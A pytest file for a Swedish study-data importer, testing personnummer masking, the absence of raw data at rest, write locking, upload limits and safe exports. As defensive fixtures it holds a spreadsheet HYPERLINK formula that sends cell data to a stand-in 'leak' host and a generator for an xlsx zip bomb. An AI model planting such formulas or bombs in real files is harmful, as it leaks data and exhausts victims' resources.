"""Issue 15: personnummer nowhere, no raw data at rest, no lost writes, bounded uploads, input sanity."""

from __future__ import annotations

import datetime as dt
import os
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from conftest import run_cli, store_bytes, store_digest

from analysis.errors import MASK, InputError, StoreError
from analysis.intake.fileformat import preview_upload
from analysis.intake.importer import ImportRejected, import_study
from analysis.intake.personnummer import find_personnummer, luhn_check_digit, normalize_personnummer
from analysis.intake.source import Upload, read_text_table
from analysis.store import db
from tests.test_import import P_COLUMNS, hours_rows, participants_rows, table, write_csv, write_pair

ROOT = Path(__file__).resolve().parent.parent


def pnr(yymmdd: str, serial: str = "123") -> str:
    """Return a valid ten-digit number YYMMDD + serial + check digit (no separator)."""
    return f"{yymmdd}{serial}{luhn_check_digit(yymmdd + serial)}"


VALID = pnr("410707", "618")  # 4107076186
FORMS = {
    "ten with dash": f"{VALID[:6]}-{VALID[6:]}",
    "ten with space": f"{VALID[:6]} {VALID[6:]}",
    "ten plain": VALID,
    "twelve with dash": f"19{VALID[:6]}-{VALID[6:]}",
    "twelve with space": f"19{VALID[:6]} {VALID[6:]}",
    "twelve plain": f"19{VALID}",
    "plus (100 or older)": f"{VALID[:6]}+{VALID[6:]}",
    "samordningsnummer": (lambda s: f"{s[:6]}-{s[6:]}")(pnr("410767", "618")),
    "inside a text": f"Söder {VALID[:6]}-{VALID[6:]} (flyttad)",
    # issue 28: the forms Word and Excel write, and others people type
    "en dash": f"{VALID[:6]}\u2013{VALID[6:]}",
    "em dash": f"19{VALID[:6]}\u2014{VALID[6:]}",
    "minus sign": f"{VALID[:6]}\u2212{VALID[6:]}",
    "dot": f"{VALID[:6]}.{VALID[6:]}",
    "slash": f"{VALID[:6]}/{VALID[6:]}",
    "several spaces": f"{VALID[:6]}  -  {VALID[6:]}",
    "full-width digits": "".join(chr(0xFF10 + int(c)) for c in VALID[:6])
    + "\uff0d"
    + "".join(chr(0xFF10 + int(c)) for c in VALID[6:]),
    "wrong check digit": f"{VALID[:6]}-{VALID[6:9]}{(int(VALID[9]) + 1) % 10}",
}


@pytest.fixture(autouse=True)
def _key(tmp_path, monkeypatch):
    monkeypatch.setenv("IHR_PSEUDONYM_KEY", str(tmp_path / "keys" / "pseudonym.key"))


def digits_of(text: str) -> str:
    """Return the digits of a written number (what must never appear in output)."""
    return "".join(ch for ch in text if ch.isdigit())


def shown_text(exc: ImportRejected) -> str:
    """Return everything a rejected import shows: its message and every problem in both languages."""
    parts = [str(exc)]
    for problem in exc.problems:
        parts += [problem.message("sv"), problem.message("en"), str(problem.value), str(problem.column), problem.file]
    return "\n".join(parts)


def assert_not_shown(text: str, number: str) -> None:
    """Fail when the number's ten or last-ten digits appear in the text in any written form."""
    flat = text.replace("-", "").replace("+", "").replace(" ", "")
    assert digits_of(number)[-10:] not in flat, text


# ---- 1. Personnummer nowhere -------------------------------------------------------------------------------


@pytest.mark.parametrize("form", FORMS, ids=list(FORMS))
def test_a_personnummer_in_the_district_column_is_refused_masked(tmp_path, form):
    rows = participants_rows()
    rows[2][P_COLUMNS.index("district")] = FORMS[form]
    p, h = write_pair(tmp_path, rows)
    with pytest.raises(ImportRejected) as err:
        import_study(tmp_path / "s.duckdb", "s", p, h)
    found = [(x.file, x.row, x.column, x.code) for x in err.value.problems]
    assert (p.name, 4, "district", "personnummer_in_column") in found
    problem = next(x for x in err.value.problems if x.code == "personnummer_in_column")
    assert MASK in problem.value
    assert_not_shown(shown_text(err.value), VALID)
    assert not (tmp_path / "s.duckdb").exists()


@pytest.mark.parametrize("column", ["randomized_on", "age", "baseline_hours", "followup_end", "sex"])
def test_a_personnummer_in_any_other_column_is_refused(tmp_path, column):
    rows = participants_rows()
    rows[0][P_COLUMNS.index(column)] = FORMS["twelve with dash"]
    p, h = write_pair(tmp_path, rows)
    with pytest.raises(ImportRejected) as err:
        import_study(tmp_path / "s.duckdb", "s", p, h)
    assert (2, column, "personnummer_in_column") in [(x.row, x.column, x.code) for x in err.value.problems]
    assert_not_shown(shown_text(err.value), VALID)


@pytest.mark.parametrize(
    "form", ["ten with space", "twelve with space", "ten plain", "en dash", "dot", "full-width digits", "slash"]
)
def test_a_personnummer_in_a_plain_id_column_of_either_file_is_refused(tmp_path, form):
    rows, hours = participants_rows(), hours_rows()
    rows[0][0] = FORMS[form]
    hours[0][0] = hours[1][0] = FORMS[form]
    p, h = write_pair(tmp_path, rows, hours)
    with pytest.raises(ImportRejected) as err:
        import_study(tmp_path / "s.duckdb", "s", p, h)
    found = {(x.kind, x.row, x.code) for x in err.value.problems}
    assert {("participants", 2, "personnummer_as_id"), ("hours", 2, "personnummer_as_id")} <= found
    assert_not_shown(shown_text(err.value), VALID)


def test_the_id_column_takes_every_form_normalize_accepts(tmp_path):
    forms = [FORMS[f] for f in ("ten with space", "twelve with dash", "twelve plain", "en dash", "dot", "slash",
                                "minus sign", "several spaces", "full-width digits")]  # fmt: skip
    rows = participants_rows()[:1]
    header = ["personnummer", *P_COLUMNS[1:]]
    rows[0][0] = forms[0]
    p = write_csv(tmp_path / "p.csv", header, rows)
    h = write_csv(
        tmp_path / "h.csv",
        ["personnummer", "month", "hours"],
        [[f, f"2016-{i + 1:02d}", "3"] for i, f in enumerate(forms)],
    )
    summary = import_study(tmp_path / "s.duckdb", "s", p, h)
    assert summary.pseudonymised and summary.hours_rows == len(forms)  # every form is the same person
    ids = table(tmp_path / "s.duckdb", "SELECT DISTINCT person_id FROM hours")["person_id"].tolist()
    assert len(ids) == 1 and ids[0].startswith("P")
    assert digits_of(VALID) not in store_bytes(tmp_path / "s.duckdb").decode("latin-1").replace("-", "")


ERROR_PATHS = [
    # (what, participants id, hours id, code): each offending value is shaped like a personnummer but invalid,
    # so only the masking, not the personnummer search, keeps it out of the message.
    ("hours id not among the participants", "a1", "19350161-2431", "unknown_person"),
    ("duplicate person", "19350161-2431", "a1", "duplicate_person"),
]


@pytest.mark.parametrize(("what", "p_id", "h_id", "code"), ERROR_PATHS, ids=[e[0] for e in ERROR_PATHS])
def test_error_paths_mask_a_number_shaped_value(tmp_path, what, p_id, h_id, code):
    rows, hours = participants_rows(), hours_rows()
    rows[0][0] = p_id
    if code == "duplicate_person":
        rows[1][0] = p_id
    hours[0][0] = h_id
    p, h = write_pair(tmp_path, rows, hours)
    with pytest.raises(ImportRejected) as err:
        import_study(tmp_path / "s.duckdb", "s", p, h)
    assert code in [x.code for x in err.value.problems]
    assert "1935016" not in shown_text(err.value)


@pytest.mark.parametrize("column", ["randomized_on", "age"])
def test_an_invalid_number_in_a_date_or_age_column_is_masked(tmp_path, column):
    rows = participants_rows()
    rows[0][P_COLUMNS.index(column)] = "19350161-2431"
    p, h = write_pair(tmp_path, rows)
    with pytest.raises(ImportRejected) as err:
        import_study(tmp_path / "s.duckdb", "s", p, h)
    problem = next(x for x in err.value.problems if x.column == column)
    assert problem.value == MASK and "1935016" not in shown_text(err.value)


@pytest.mark.slow
def test_the_command_line_does_not_echo_a_number(tmp_path):
    rows = participants_rows()
    rows[1][P_COLUMNS.index("district")] = FORMS["ten with space"]
    p, h = write_pair(tmp_path, rows)
    done = run_cli(  # the key comes from the environment the fixture sets
        "import", "--db", str(tmp_path / "s.duckdb"), "--study", "s", "--participants", str(p), "--hours", str(h)
    )
    assert done.returncode != 0 and "district" in done.stdout + done.stderr
    assert_not_shown(done.stdout + done.stderr, VALID)


def test_the_preview_masks_a_number_inside_a_text():
    data = f"person_id,district\na1,Söder\na2,{FORMS['inside a text']}\n".encode()
    shown = preview_upload("p.csv", data)
    assert (shown["district"] == MASK).all() and shown["person_id"].tolist() == ["a1", "a2"]


TODAY = dt.date(2026, 11, 22)
CENTURY = [
    # (written, today, expected birth year): Skatteverket's rule on the full date, not the year alone.
    ("261215-", TODAY, 1926),  # a 99-year-old whose birthday is later this year
    ("261122-", TODAY, 2026),  # born today
    ("261123-", TODAY, 1926),  # born tomorrow a century ago: 99 years old
    ("261121-", TODAY, 2026),
    ("261123+", TODAY, 1826),
    ("261122+", TODAY, 1926),  # exactly 100 today: '+'
    ("270101-", dt.date(2026, 12, 31), 1927),  # turn of the year: the day before
    ("270101-", dt.date(2027, 1, 1), 2027),  # and the day itself
    ("261231-", dt.date(2027, 1, 1), 2026),
    ("000229-", dt.date(2026, 11, 22), 2000),  # 29 February exists in 2000
]


@pytest.mark.parametrize(("written", "today", "year"), CENTURY, ids=[f"{c[0]}{c[1]}" for c in CENTURY])
def test_the_century_of_a_ten_digit_number_follows_the_full_date(written, today, year):
    date, sep = written[:6], written[6]
    number = f"{date}{sep}{pnr(date)[6:]}"
    assert normalize_personnummer(number, today)[:4] == str(year)


def test_find_personnummer_ignores_longer_digit_runs_and_dates():
    assert find_personnummer(f"x{VALID}1") == [] and find_personnummer("2016-01-15 12.5") == []
    assert find_personnummer(f"{VALID},{VALID}") == [VALID, VALID]


# ---- 2. No raw data at rest --------------------------------------------------------------------------------


def write_big_cp1252_pair(folder: Path, people: int) -> tuple[Path, Path, list[str]]:
    """Write a Windows-1252 participants file identified by personnummer, and an hours file; return the numbers."""
    numbers = []
    day = dt.date(1930, 1, 1)
    while len(numbers) < people:
        yymmdd = day.strftime("%y%m%d")
        numbers += [f"19{yymmdd}-{pnr(yymmdd, f'{s:03d}')[6:]}" for s in range(200, 260)]
        day += dt.timedelta(days=1)
    numbers = numbers[:people]
    header = ["personnummer", *P_COLUMNS[1:]]
    rows = [[n, "intervention" if i % 2 else "control", "2016-01-15", "80", "K", "ny", "10", "", "", "", "Årby"]
            for i, n in enumerate(numbers)]  # fmt: skip
    p = write_csv(folder / "p.csv", header, rows, delimiter=";", encoding="cp1252")
    h = write_csv(
        folder / "h.csv",
        ["personnummer", "månad", "timmar"],
        [[n, f"2016-{m:02d}", "5"] for n in numbers for m in range(1, 13)],
        delimiter=";",
        encoding="cp1252",
    )
    return p, h, numbers


def files_holding(folders: list[Path], numbers: list[str]) -> list[Path]:
    """Return every file under the folders whose bytes hold one of the numbers in a written form."""
    needles = set()
    for n in numbers[:50]:
        needles |= {n.encode(), n.replace("-", "").encode(), n[2:].encode()}
    found = []
    for folder in folders:
        for path in folder.rglob("*"):
            if path.is_file():
                data = path.read_bytes()
                if any(needle in data for needle in needles):
                    found.append(path)
    return found


@pytest.mark.slow
def test_a_killed_import_leaves_no_file_with_a_raw_number(tmp_path):
    data, temp, store = tmp_path / "in", tmp_path / "tmp", tmp_path / "store"
    for folder in (data, temp, store):
        folder.mkdir()
    p, h, numbers = write_big_cp1252_pair(data, 30_000)
    env = {**os.environ, "TMPDIR": str(temp), "IHR_PSEUDONYM_KEY": str(tmp_path / "k.key")}
    command = [sys.executable, "-m", "analysis", "import", "--db", str(store / "s.duckdb"), "--study", "s",
               "--participants", str(p), "--hours", str(h)]  # fmt: skip
    started = time.monotonic()
    subprocess.run(command, cwd=ROOT, env=env, check=True, capture_output=True, timeout=300)
    full = time.monotonic() - started
    for fraction in (0.15, 0.3, 0.45, 0.6, 0.75, 0.9):
        process = subprocess.Popen(command, cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(full * fraction)
        process.send_signal(signal.SIGKILL)
        process.wait()
        assert files_holding([temp, store], numbers) == [], fraction
    assert set(table(store / "s.duckdb", "SELECT study FROM studies")["study"]) == {"s"}  # never half a store


def test_stray_files_of_a_killed_writer_are_removed_at_the_next_write(tmp_path):
    p, h = write_pair(tmp_path)
    path = tmp_path / "s.duckdb"
    import_study(path, "a", p, h)
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    stray = [tmp_path / f".s.duckdb.{dead.stdout.strip()}.abc123.tmp", tmp_path / ".s.duckdb.oldname.tmp.wal"]
    for leftover in stray:
        leftover.write_bytes(b"x" * 1000)
    alive = tmp_path / f".s.duckdb.{os.getpid()}.live.tmp"  # a writer still running keeps its file
    alive.write_bytes(b"x")
    import_study(path, "b", p, h)
    assert not any(x.exists() for x in stray) and alive.exists()


def test_private_temp_folders_of_dead_processes_are_removed(tmp_path, monkeypatch):
    monkeypatch.setattr(db.tempfile, "gettempdir", lambda: str(tmp_path))
    root = db._temp_root()
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    left = root / dead.stdout.strip()
    left.mkdir()
    (left / "spill.tmp").write_bytes(b"raw")
    assert oct(root.stat().st_mode & 0o777) == "0o700"
    assert db.remove_stale_temp() == [left] and not left.exists()


def test_an_upload_is_imported_from_memory(tmp_path):
    p, h = write_pair(tmp_path, encoding="cp1252")
    uploads = [Upload(p.name, p.read_bytes()), Upload(h.name, h.read_bytes())]
    p.unlink()
    h.unlink()
    summary = import_study(tmp_path / "s.duckdb", "s", *uploads)
    assert summary.people == {"control": 2, "intervention": 2}
    assert table(tmp_path / "s.duckdb", "SELECT district FROM participants ORDER BY person_id")["district"][0] == "Årby"


# ---- 3. No lost writes -------------------------------------------------------------------------------------


@pytest.mark.slow
def test_two_imports_at_once_leave_both_studies(tmp_path):
    p, h, _ = write_big_cp1252_pair(tmp_path, 5_000)
    store = tmp_path / "s.duckdb"
    env = {**os.environ, "IHR_PSEUDONYM_KEY": str(tmp_path / "k.key")}
    processes = [
        subprocess.Popen(
            [
                sys.executable,
                "-m",
                "analysis",
                "import",
                "--db",
                str(store),
                "--study",
                study,
                "--participants",
                str(p),
                "--hours",
                str(h),
            ],
            cwd=ROOT,
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for study in ("first", "second", "third")
    ]
    results = [process.communicate(timeout=300) for process in processes]
    assert [process.returncode for process in processes] == [0, 0, 0], results
    assert set(table(store, "SELECT study FROM studies")["study"]) == {"first", "second", "third"}


@pytest.mark.slow
def test_an_import_that_cannot_get_the_lock_says_so_and_changes_nothing(tmp_path, monkeypatch):
    p, h = write_pair(tmp_path)
    path = tmp_path / "s.duckdb"
    import_study(path, "a", p, h)
    before = store_digest(path)
    monkeypatch.setenv("IHR_WRITE_WAIT_S", "1")
    with db._write_lock(path), pytest.raises(StoreError) as err:
        import_study(path, "b", p, h)
    assert "Another import is writing" in err.value.en and "write_wait_s" in err.value.en
    assert store_digest(path) == before


# ---- 5. Bounded uploads ------------------------------------------------------------------------------------


def write_xlsx_bomb(path: Path, unpacked_mb: int) -> None:
    """Write an .xlsx whose sheet unpacks to about ``unpacked_mb`` MB of identical rows (a zip bomb)."""
    row = b'<row><c t="inlineStr"><is><t>a</t></is></c><c t="inlineStr"><is><t>b</t></is></c></row>'
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b"<worksheet><sheetData>")
            block = row * 10_000
            for _ in range(unpacked_mb * (1 << 20) // len(block) + 1):
                sheet.write(block)
            sheet.write(b"</sheetData></worksheet>")


def test_an_xlsx_bomb_is_refused_before_it_is_unpacked(tmp_path):
    bomb = tmp_path / "h.xlsx"
    write_xlsx_bomb(bomb, 120)
    assert bomb.stat().st_size < 2 << 20
    p, _ = write_pair(tmp_path)
    with pytest.raises(InputError) as err:
        import_study(tmp_path / "s.duckdb", "s", p, bomb)
    assert "h.xlsx" in err.value.en and "max_unpacked_mb" in err.value.en and "unpacks to 12" in err.value.en


def test_a_csv_with_100000_columns_is_refused_from_its_header(tmp_path):
    wide = tmp_path / "h.csv"
    wide.write_text(",".join(f"c{i}" for i in range(100_000)) + "\n" + ",".join("1" * 100_000) + "\n")
    p, _ = write_pair(tmp_path)
    with pytest.raises(InputError) as err:
        import_study(tmp_path / "s.duckdb", "s", p, wide)
    assert "h.csv" in err.value.en and ("max_columns" in err.value.en or "max_header_kb" in err.value.en)
    with pytest.raises(InputError) as err:
        preview_upload("h.csv", wide.read_bytes())
    assert "h.csv" in err.value.en


@pytest.mark.parametrize(
    ("setting", "value", "words"),
    [
        ("IHR_MAX_FILE_MB", "0", "max_file_mb"),
        ("IHR_MAX_ROWS", "3", "max_rows"),
        ("IHR_MAX_COLUMNS", "2", "max_columns"),
    ],
)
@pytest.mark.parametrize("fmt", ["csv", "xlsx", "parquet"])
def test_every_limit_is_checked_in_every_format(tmp_path, monkeypatch, setting, value, words, fmt):
    frame = pd.DataFrame(hours_rows(), columns=["person_id", "month", "hours"])
    path = tmp_path / f"h.{fmt}"
    {"csv": lambda: frame.to_csv(path, index=False), "xlsx": lambda: frame.to_excel(path, index=False),
     "parquet": lambda: frame.to_parquet(path)}[fmt]()  # fmt: skip
    con = db.scratch()
    try:
        assert read_text_table(con, path, "ok", path.name)[0] == ["person_id", "month", "hours"]
        monkeypatch.setenv(setting, value)
        for source in (path, Upload(path.name, path.read_bytes())):
            with pytest.raises(InputError) as err:
                read_text_table(con, source, "refused", path.name)
            assert words in err.value.en and path.name in err.value.en
    finally:
        con.close()


def test_the_preview_parses_only_what_it_shows(tmp_path, monkeypatch):
    rows = "".join(f"a{i},2016-01,{'x' if i == 500 else 1}\n" for i in range(1000))
    shown = preview_upload("h.csv", ("person_id,month,hours\n" + rows + "a1,2016-01,1,extra\n").encode())
    assert len(shown) == 10  # a broken last row does not stop the preview


# ---- 6. Input sanity ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("column", ["followup_end", "died_on", "randomized_on"])
def test_a_date_after_today_is_refused(tmp_path, column):
    rows = participants_rows()
    rows[0][P_COLUMNS.index(column)] = "9999-12-31"
    p, h = write_pair(tmp_path, rows)
    with pytest.raises(ImportRejected) as err:
        import_study(tmp_path / "s.duckdb", "s", p, h)
    assert (2, column, "future_date") in [(x.row, x.column, x.code) for x in err.value.problems]


def test_a_date_after_the_given_data_end_is_refused(tmp_path):
    p, h = write_pair(tmp_path, None, [*hours_rows(), ["a1", "2016-09", "3"]])
    with pytest.raises(ImportRejected) as err:
        import_study(tmp_path / "s.duckdb", "s", p, h, data_end=dt.date(2016, 8, 31))
    problems = [(x.kind, x.column, x.code) for x in err.value.problems]
    assert ("hours", "month", "after_data_end") in problems
    assert ("participants", "died_on", "after_data_end") in problems  # a3 died 2016-09-30
    with pytest.raises(InputError):
        import_study(tmp_path / "s.duckdb", "s", p, h, data_end=dt.date.today() + dt.timedelta(days=1))


def test_duplicate_headers_are_refused_in_xlsx_and_parquet(tmp_path):
    p, _ = write_pair(tmp_path)
    book = openpyxl.Workbook()
    book.active.append(["person_id", "month", "hours", "Hours"])
    book.active.append(["a1", "2016-01", "3", "4"])
    book.save(tmp_path / "h.xlsx")
    pq.write_table(
        pa.table([pa.array(["a1"]), pa.array(["2016-01"]), pa.array(["3"]), pa.array(["4"])],
                 names=["person_id", "month", "hours", "hours"]),
        tmp_path / "h.parquet",
    )  # fmt: skip
    for name in ("h.xlsx", "h.parquet"):
        with pytest.raises(InputError) as err:
            import_study(tmp_path / "s.duckdb", "s", p, tmp_path / name)
        assert "appears twice" in err.value.en and name in err.value.en


def test_a_file_of_mixed_encodings_is_refused_naming_the_rows(tmp_path):
    p, h = write_pair(tmp_path)
    text = p.read_bytes().decode("utf-8").splitlines(keepends=True)
    text[3] = text[3].encode("utf-8").decode("utf-8")
    mixed = b"".join(line.encode("cp1252") if i == 3 else line.encode("utf-8") for i, line in enumerate(text))
    p.write_bytes(mixed)
    with pytest.raises(InputError) as err:
        import_study(tmp_path / "s.duckdb", "s", p, h)
    assert "mixes encodings" in err.value.en and "row 4" in err.value.en and p.name in err.value.en


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"person_id,month,hours\na1,2016-01,\x003\n", "NUL"),
        (b"person_id,month,hours\n".replace(b"\n", b"x" * (200 << 10) + b"\n"), "max_header_kb"),
        ("person_id,month,hours\n".encode("utf-16"), "NUL"),
    ],
    ids=["NUL byte", "huge header", "UTF-16"],
)
def test_parser_troubles_get_a_clear_message(tmp_path, content, words):
    p, _ = write_pair(tmp_path)
    bad = tmp_path / "h.csv"
    bad.write_bytes(content)
    with pytest.raises(InputError) as err:
        import_study(tmp_path / "s.duckdb", "s", p, bad)
    assert words in err.value.en and "h.csv" in err.value.en


def test_log_lines_and_tracebacks_are_masked():
    import io
    import logging

    from analysis.errors import mask_logs

    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    logger = logging.getLogger("ihr-test-masking")
    logger.addHandler(handler)
    logging.getLogger().addHandler(handler)
    try:
        mask_logs("ihr-test-masking")
        try:
            raise ValueError(f"could not convert {FORMS['twelve with dash']!r}")
        except ValueError:
            logger.exception("import of %s failed", FORMS["ten with space"])
    finally:
        logger.removeHandler(handler)
        logging.getLogger().removeHandler(handler)
    written = stream.getvalue()
    assert "could not convert" in written and "import of" in written and MASK in written
    assert_not_shown(written, VALID)


def test_out_of_memory_is_reported_as_such(tmp_path):
    big = tmp_path / "h.csv"
    big.write_text("person_id,month,hours\n" + "".join(f"a{i},2016-01,{i % 40}.25\n" for i in range(300_000)))
    con = db.scratch()
    try:
        con.execute("SET memory_limit = '2MB'")
        con.execute("SET temp_directory = ''")  # nowhere to spill: DuckDB runs out of memory
        with pytest.raises(InputError) as err:
            read_text_table(con, big, "t", big.name)
    finally:
        con.close()
    assert "more memory" in err.value.en and "h.csv" in err.value.en and "fields" not in err.value.en


# ---- 4. Safe exports, end to end ---------------------------------------------------------------------------


@pytest.mark.slow
def test_every_table_of_a_hostile_study_exports_without_a_formula(tmp_path):
    import io

    from analysis.present.exports import table_to_csv, table_to_excel
    from analysis.present.stamp import make_stamp
    from analysis.present.viewer import PAGES, view_page
    from analysis.selection import Filters, Selection

    hostile = '=HYPERLINK("http://x.invalid/leak?d="&A1,"klick")'
    rows = [
        [f"p{i}", "intervention" if i % 2 else "control", "2016-01-15", str(66 + i % 28), "FM"[i % 3 == 0],
         "new", "10", "", "", "", hostile if i % 4 else "+Söder"]
        for i in range(80)
    ]  # fmt: skip
    hours = [[f"p{i}", f"2016-{m:02d}", str(5 + i % 7)] for i in range(80) for m in range(1, 13)]
    p, h = write_pair(tmp_path, rows, hours)
    store = tmp_path / "s.duckdb"
    import_study(store, "=1+1", p, h)
    con = db.connect(store)
    exported, districts_seen = 0, False
    try:
        for page in PAGES:
            selection = Selection("=1+1", Filters(), month=6)
            stamp = make_stamp("abc", selection, "Welch", 5, 5, "en")
            for name, frame in view_page(con, page, selection, 5).items():
                book = openpyxl.load_workbook(io.BytesIO(table_to_excel(frame, stamp, "en")))
                formulas = [
                    c.coordinate for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"
                ]
                assert formulas == [], (page, name, formulas)
                back = pd.read_csv(io.BytesIO(table_to_csv(frame, stamp, "en")), comment="#", dtype=str)
                cells = [str(v) for v in back.to_numpy().ravel()] + list(back.columns)
                assert not any(v.startswith(("=", "+", "@")) for v in cells), (page, name)
                exported += 1
                if name == "table1":
                    assert "'" + hostile in cells and "'+Söder" in cells  # read back as the text it was
                    districts_seen = True
            assert dict(book["Source"].values)["Study"] == "'=1+1"
    finally:
        con.close()
    assert exported >= 10 and districts_seen


def test_a_personnummer_is_listed_with_every_other_problem(tmp_path):
    # Found by trying a bad file on the Data page: the personnummer alone was listed, the rest came one
    # import later.
    rows = participants_rows()
    rows[0][P_COLUMNS.index("district")] = FORMS["inside a text"]
    rows[1][P_COLUMNS.index("followup_end")] = "9999-12-31"
    p, h = write_pair(tmp_path, rows, [*hours_rows(), ["zz", "2016-02", "3"]])
    with pytest.raises(ImportRejected) as err:
        import_study(tmp_path / "s.duckdb", "s", p, h)
    codes = {x.code for x in err.value.problems}
    assert {"personnummer_in_column", "future_date", "unknown_person"} <= codes, codes
    assert_not_shown(shown_text(err.value), VALID)


def _fifo(path: Path) -> Path:
    os.mkfifo(path)
    return path


@pytest.mark.parametrize(
    ("make", "words"),
    [
        (lambda folder: folder / "missing.csv", "does not exist"),
        (lambda folder: (folder / "h.csv").mkdir() or folder / "h.csv", "is a folder, not a file"),
        (lambda folder: _fifo(folder / "h.csv"), "is a named pipe (FIFO), not a file"),
        (lambda folder: Path("/dev/zero"), "is a device (character device), not a file"),
    ],
    ids=["missing", "folder", "fifo", "device"],
)
def test_a_special_file_is_refused_for_what_it_is_without_opening_it(tmp_path, make, words):
    special = make(tmp_path)
    p, _ = write_pair(tmp_path)
    start = time.monotonic()
    with pytest.raises(InputError) as err:
        import_study(tmp_path / "s.duckdb", "s", p, special)
    assert words in err.value.en and special.name in err.value.en
    assert time.monotonic() - start < 30  # a FIFO opened for reading would wait forever; /dev/zero never ends
    assert not (tmp_path / "s.duckdb").exists()


def test_an_oversize_cell_is_refused_for_its_size_with_its_row(tmp_path):
    rows = hours_rows()
    big = tmp_path / "h.csv"
    with big.open("w", encoding="utf-8") as out:
        out.write("person_id,month,hours\n")
        for i, row in enumerate(rows):
            out.write(",".join(str(v) for v in row) + ("x" * 20_000_000 if i == 2 else "") + "\n")
    p, _ = write_pair(tmp_path)
    with pytest.raises(InputError) as err:
        import_study(tmp_path / "s.duckdb", "s", p, big)
    assert "row 4 is 19.1 MB long; at most 2 MB per row" in err.value.en and "h.csv" in err.value.en
    assert "rad 4 är 19,1 MB lång" in err.value.sv and "wrong number of fields" not in err.value.en
